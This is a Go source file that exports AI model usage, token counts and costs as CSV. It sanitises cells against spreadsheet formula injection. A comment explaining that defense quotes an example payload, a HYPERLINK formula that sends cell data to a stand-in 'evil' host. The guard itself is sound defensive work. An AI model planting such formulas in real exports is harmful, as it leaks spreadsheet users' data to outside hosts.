package usage

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"math"
	"regexp"
	"strconv"
	"strings"

	"mcpdesk/backend/store"
)

// ExportBy is what one line of a CSV export sums up.
type ExportBy string

// Breakdowns a CSV export can hold (the by argument).
const (
	ByDay          ExportBy = "day"
	ByProvider     ExportBy = "provider"
	ByModel        ExportBy = "model"
	ByConversation ExportBy = "conversation"
	ByCalls        ExportBy = "calls" // one line per model call
)

// Notes of the cost_note column.
const (
	noteNoPrice = "no price set"
	notePartial = "no price set for %d of %d calls; the others cost %s"
)

var tokenHeader = []string{"calls", "prompt_tokens", "completion_tokens", "cached_tokens", "reasoning_tokens", "cost_usd", "cost_note"}

// WriteCSV writes the calls q selects as CSV (RFC 4180: CRLF line ends,
// quotes where needed) with a header line, one line per day, provider,
// model, conversation (all of them) or call, as by says. cost_usd is in
// USD; it is empty when a call lacks a price, and cost_note then says "no
// price set" — or, for a line whose calls are only partly priced, how many
// lack one and what the priced ones cost. A missing price never becomes a
// number in cost_usd.
func (e *Engine) WriteCSV(ctx context.Context, w io.Writer, q UsageQuery, by ExportBy) error {
	cw := safeCSV{csv.NewWriter(w)}
	cw.UseCRLF = true
	var err error
	switch by {
	case ByDay, ByProvider, ByModel, ByConversation:
		err = e.writeBreakdown(ctx, cw, q, by)
	case ByCalls:
		err = e.writeCalls(ctx, cw, q)
	default:
		return fmt.Errorf("export by %q: want day, provider, model, conversation or calls", by)
	}
	if err != nil {
		return err
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("write CSV: %w", err)
	}
	return nil
}

func (e *Engine) writeBreakdown(ctx context.Context, cw safeCSV, q UsageQuery, by ExportBy) error {
	limit := summaryConversations
	if by == ByConversation {
		limit = 0
	}
	s, err := e.summary(ctx, q, limit)
	if err != nil {
		return err
	}
	var lines [][]string
	switch by {
	case ByDay:
		lines = append(lines, append([]string{"day"}, tokenHeader...))
		for _, r := range s.ByDay {
			lines = append(lines, append([]string{r.Day}, rowFields(r)...))
		}
	case ByProvider:
		lines = append(lines, append([]string{"provider", "provider_name"}, tokenHeader...))
		for _, r := range s.ByProvider {
			lines = append(lines, append([]string{r.Provider, r.Label}, rowFields(r)...))
		}
	case ByModel:
		lines = append(lines, append([]string{"provider", "provider_name", "model"}, tokenHeader...))
		for _, r := range s.ByModel {
			lines = append(lines, append([]string{r.Provider, providerLabel(s, r.Provider), r.Model}, rowFields(r)...))
		}
	case ByConversation:
		lines = append(lines, append([]string{"conversation_id", "title"}, tokenHeader...))
		for _, c := range s.ByConversation {
			r := Row{Calls: c.Calls, PromptTokens: c.PromptTokens, CompletionTokens: c.CompletionTokens, CachedTokens: c.CachedTokens,
				ReasoningTokens: c.ReasoningTokens, Cost: c.Cost, PricedCost: c.PricedCost, UnpricedCalls: c.UnpricedCalls}
			lines = append(lines, append([]string{strconv.FormatInt(c.ConversationID, 10), c.Label}, rowFields(r)...))
		}
	}
	for _, l := range lines {
		if err := cw.Write(l); err != nil {
			return fmt.Errorf("write CSV: %w", err)
		}
	}
	return nil
}

// providerLabel is the provider's name as the breakdown by provider has it.
func providerLabel(s UsageSummary, id string) string {
	for _, r := range s.ByProvider {
		if r.Provider == id {
			return r.Label
		}
	}
	return id
}

// rowFields are the calls, token and cost columns of r.
func rowFields(r Row) []string {
	cost, note := "", ""
	switch {
	case r.Cost != nil:
		cost = formatUSD(*r.Cost)
	case r.UnpricedCalls < r.Calls:
		note = fmt.Sprintf(notePartial, r.UnpricedCalls, r.Calls, formatUSD(r.PricedCost))
	default:
		note = noteNoPrice
	}
	return []string{
		strconv.FormatInt(r.Calls, 10), strconv.FormatInt(r.PromptTokens, 10), strconv.FormatInt(r.CompletionTokens, 10),
		strconv.FormatInt(r.CachedTokens, 10), strconv.FormatInt(r.ReasoningTokens, 10), cost, note,
	}
}

// formatUSD writes dollars with at most six decimals, no trailing zeros.
func formatUSD(v float64) string {
	return strconv.FormatFloat(math.Round(v*1e6)/1e6, 'f', -1, 64)
}

func (e *Engine) writeCalls(ctx context.Context, cw safeCSV, q UsageQuery) error {
	sp, err := e.span(q)
	if err != nil {
		return err
	}
	table, err := e.prices(ctx)
	if err != nil {
		return err
	}
	if err := cw.Write([]string{"time", "conversation_id", "provider", "provider_name", "preset", "model", "kind",
		"prompt_tokens", "completion_tokens", "cached_tokens", "reasoning_tokens", "cost_usd", "cost_note"}); err != nil {
		return fmt.Errorf("write CSV: %w", err)
	}
	return e.st.UsageRecords(ctx, sp.filter(q), func(r store.UsageRecord) error {
		conv := ""
		if r.ConversationID != 0 {
			conv = strconv.FormatInt(r.ConversationID, 10)
		}
		cost, note := "", noteNoPrice
		if p, ok := table.lookup(r.Provider, r.Preset, r.Model); ok {
			cost, note = formatUSD(p.cost(store.TokenSums{
				Prompt: r.PromptTokens, Completion: r.CompletionTokens, Cached: r.CachedTokens, Reasoning: r.ReasoningTokens,
			})), ""
		}
		if err := cw.Write([]string{
			r.Time.In(sp.zone).Format("2006-01-02T15:04:05.000Z07:00"), conv, r.Provider, r.ProviderName, r.Preset, r.Model, r.Kind,
			strconv.FormatInt(r.PromptTokens, 10), strconv.FormatInt(r.CompletionTokens, 10),
			strconv.FormatInt(r.CachedTokens, 10), strconv.FormatInt(r.ReasoningTokens, 10), cost, note,
		}); err != nil {
			return fmt.Errorf("write CSV: %w", err)
		}
		return ctx.Err()
	})
}

// safeCSV writes every row through csvCell: the exports hold names a
// model or another program chose (conversation titles, model names), and
// a spreadsheet runs a cell such as =HYPERLINK("https://evil/?"&A1) as a
// formula.
type safeCSV struct{ *csv.Writer }

// Write writes one row with its cells neutralised.
func (w safeCSV) Write(row []string) error {
	cells := make([]string, len(row))
	for i, c := range row {
		cells[i] = csvCell(c)
	}
	return w.Writer.Write(cells)
}

// plainNumber matches a number as we write them (a count, a cost), which
// a spreadsheet reads as a number and never as a formula.
var plainNumber = regexp.MustCompile(`^[-+]?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// csvCell returns s with a ' before it when a spreadsheet would take it
// for a formula: when it starts with =, +, -, @, a tab or a carriage
// return (OWASP, "CSV Injection"). A plain number keeps its sign and stays
// a number: "-0.5" is not a formula, and a cost must remain summable.
func csvCell(s string) string {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) || plainNumber.MatchString(s) {
		return s
	}
	return "'" + s
}
